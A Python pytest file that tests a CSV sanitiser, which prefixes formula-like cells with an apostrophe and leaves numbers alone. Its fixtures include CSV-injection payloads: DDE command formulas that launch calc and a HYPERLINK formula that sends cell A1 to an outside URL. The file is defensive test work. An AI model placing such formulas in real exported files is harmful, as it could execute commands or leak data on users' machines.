"""Cells of CSV files: what a spreadsheet would run is text, what it would count stays a number."""

import csv
import io
import re

import pytest

from models.runtime.csv_cells import csv_text, harmless
from tests.bench import REPO
from tests.models.pose.test_recording import varied

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.org/?"&A1, "see")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+A1",
    "-A1",
    "+A1",
    "-2+3",
    "-(1)",
    "- item",
    "=",
    "--1",
)
PLAIN = (
    "",
    "Cup",
    "a=1",
    "1+1",
    "-5",
    "+5",
    "-1,234.50",
    "-1 234,50 ",
    "- 5",
    "-.5",
    "+46 70 123",
    "-5%",
    "-5 €",
    "-",
    "---",
)
PLAIN += ("−5", "'=1", "100 %", "a\tb", "2026-11-30T12:00:00.000+01:00")


@pytest.mark.parametrize("cell", FORMULAS, ids=ascii)
def test_a_formula_becomes_text(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", PLAIN, ids=ascii)
def test_anything_else_stays(cell: str) -> None:
    assert harmless(cell) == cell


def test_nobody_else_writes_csv() -> None:
    files = [file for folder in ("models", "components", "pages") for file in (REPO / folder).rglob("*.py")]
    writers = {file.name for file in files if re.search(r"csv\.(Dict)?[wW]riter", file.read_text())}
    assert writers == {"csv_cells.py"}


def test_a_recording_which_is_written_as_numbers_has_no_cell_to_mark() -> None:
    written = varied().to_csv()
    assert ",-" in written and csv_text(csv.reader(io.StringIO(written))).replace("\r\n", "\n") == written


def test_a_file_has_the_cells_it_was_given() -> None:
    rows = [["Name", "Count"], ['a "b", c', 3], ["two\nlines", -0.5], ["=1+1", None]]
    read = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert read == [["Name", "Count"], ['a "b", c', "3"], ["two\nlines", "-0.5"], ["'=1+1", "None"]]
